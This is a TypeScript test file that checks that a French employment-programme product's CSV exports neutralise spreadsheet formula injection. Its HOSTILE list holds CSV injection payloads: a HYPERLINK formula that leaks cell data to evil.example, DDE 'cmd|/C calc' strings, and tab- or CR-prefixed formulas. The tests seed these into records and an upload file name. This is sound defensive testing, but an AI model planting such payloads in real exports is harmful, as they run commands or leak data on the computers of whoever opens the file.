// CSV formula injection, tried as an attacker would: a name delivered by a FluxIAE or ASP list
// ('=HYPERLINK(...)'), a structure name ('+cmd|...'), an uploaded file's name ('@SUM(...)'), a reason
// starting with '-', a tab or a carriage return — opened in a spreadsheet, such a cell runs as a formula.
// Every CSV the product emits goes through one cell writer (src/text/csv.ts); each is read back here
// and no cell may start with = + - @ tab or CR unless it is a plain number (numbers stay numbers).
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { exportOpenData } from "../../src/interchange/opendata/exportOpenData.js";
import { tableToCsv } from "../../src/reports/tabular.js";
import { testCipher } from "../../src/security/personalData.js";
import { toCsv } from "../../src/server/lists/exportList.js";
import type { App } from "../../src/server/context.js";
import { parseDelimited } from "../../src/text/delimited.js";
import { createTestDatabase, type TestDatabase } from "../support/testDb.js";
import { buildTestApp, type LoggedIn, login, seedWorld, type World } from "./support/fixture.js";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1;"clic")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const PLAIN_NUMBER = /^-?\d+([.,]\d+)?$/;

/** Cells of a CSV text that a spreadsheet would run as a formula. */
function dangerousCells(text: string, separator: string): string[] {
  const out: string[] = [];
  for (const record of parseDelimited(text, separator)) {
    for (const cell of record.values) if (/^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell)) out.push(cell);
  }
  return out;
}

describe("every CSV writer neutralises formulas, keeps numbers", () => {
  test("list exports (salariés, sorties, structures, imports, rejets, RSA)", () => {
    const rows = HOSTILE.map((name, i) => ({ name, hours: -3.5 + i }));
    const csv = toCsv(rows, [
      { header: "Nom", value: (r) => r.name },
      { header: "Heures", value: (r) => r.hours },
    ]);
    expect(dangerousCells(csv, ";")).toEqual([]);
    const records = [...parseDelimited(csv, ";")];
    // The text is kept (behind a quote), the number is still a number.
    expect(records[1]?.values).toEqual([`'${HOSTILE[0]}`, "-3,5"]);
  });

  test("report tables (annual report, RSA tables)", () => {
    const csv = tableToCsv({
      id: "t",
      title: "t",
      columns: [
        { key: "name", label: "=1+1" },
        { key: "v", label: "valeur" },
      ],
      rows: HOSTILE.map((h) => [h, -3.5]),
      definitions: [],
      printable: true,
    } as unknown as Parameters<typeof tableToCsv>[0]);
    expect(dangerousCells(csv, ";")).toEqual([]);
    expect([...parseDelimited(csv, ";")][1]?.values[1]).toBe("-3.5");
  });
});

describe("through the product", () => {
  let t: TestDatabase;
  let app: App;
  let world: World;
  let admin: LoggedIn;
  let siae: LoggedIn;
  const pii = testCipher();

  beforeAll(async () => {
    t = await createTestDatabase();
    world = await seedWorld(t.handle.db, pii);
    app = await buildTestApp(t, pii, { config: { uploadLimit: 10_000_000 } });
    const db = t.handle.db;
    // What a FluxIAE delivery or an ASP list could carry.
    await db.updateTable("person").set({ last_name: HOSTILE[0], first_name: HOSTILE[1] }).where("id", "=", world.p1).execute();
    await db.updateTable("structure").set({ name: HOSTILE[2] }).where("id", "=", world.s1).execute();
    const contract = await db.selectFrom("contract").select("id").where("person_id", "=", world.p3).executeTakeFirstOrThrow();
    await db.updateTable("person").set({ last_name: HOSTILE[3], first_name: HOSTILE[4] }).where("id", "=", world.p3).execute();
    const motif = await db.selectFrom("ref_exit_motif").select("code").limit(1).executeTakeFirstOrThrow();
    await db.updateTable("contract").set({ exit_on: "2025-06-30" }).where("id", "=", contract.id).execute();
    await db
      .insertInto("exit")
      .values({ recruitment_id: contract.id, person_id: world.p3, structure_id: world.s1, exit_on: "2025-06-30", motif_code: motif.code })
      .execute();
    admin = await login(app, world.users.admin.email);
    siae = await login(app, world.users.siaeAdmin.email);
  });
  afterAll(async () => {
    await app?.close();
    await t?.destroy();
  });

  test("salariés, sorties, structures, imports and the audit export", async () => {
    const boundary = "----passerelle";
    const name = "@SUM(1+1)*cmd.csv";
    const list =
      'MESURE;CODE_DEPARTEMENT;LIBELLE_DPT;CODE_POSTAL;COMMUNE;SIRET;DENOMINATION_SOCIALE\nACI;062;PAS-DE-CALAIS;62300;LENS;39321207100012;=HYPERLINK("http://evil.example")\n';
    const payload = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n${list}\r\n--${boundary}--\r\n`;
    const up = await app.inject({
      method: "POST",
      url: "/api/v1/imports",
      headers: { ...admin.headers, "content-type": `multipart/form-data; boundary=${boundary}` },
      payload,
    });
    expect(up.statusCode, up.body).toBe(200);

    const exports: [string, LoggedIn, string][] = [
      ["salariés", siae, `/api/v1/structures/${world.s1}/persons?format=csv&month=2025-03`],
      ["sorties", siae, `/api/v1/structures/${world.s1}/exits?format=csv&year=2025`],
      ["structures", admin, "/api/v1/structures?format=csv"],
      ["imports", admin, "/api/v1/imports?format=csv"],
      ["audit", admin, "/api/v1/audit/export"],
    ];
    for (const [what, who, url] of exports) {
      const res = await app.inject({ url, headers: who.headers });
      expect(res.statusCode, `${what}: ${res.body}`).toBe(200);
      expect(res.headers["content-type"]).toContain("text/csv");
      expect(dangerousCells(res.body, ";"), what).toEqual([]);
    }
    // The hostile values did reach the exports (neutralised, not dropped).
    const persons = await app.inject({ url: `/api/v1/structures/${world.s1}/persons?format=csv&month=2025-03`, headers: siae.headers });
    expect(persons.body).toContain("'=HYPERLINK(");
    const imports = await app.inject({ url: "/api/v1/imports?format=csv", headers: admin.headers });
    expect(imports.body).toContain("'@SUM(1+1)");
  });

  test("open data file", async () => {
    const out = path.join(tmpdir(), `passerelle-opendata-${process.pid}-${Date.now()}.csv`);
    await sql`UPDATE structure SET name = ${HOSTILE[0]}`.execute(t.handle.db);
    const result = await exportOpenData(t.handle, { out, at: "2025-06-01" });
    expect(result.rows).toBeGreaterThan(0);
    const text = readFileSync(out, "utf8");
    expect(text).toContain("'=HYPERLINK(");
    expect(dangerousCells(text, ",")).toEqual([]);
  });
});
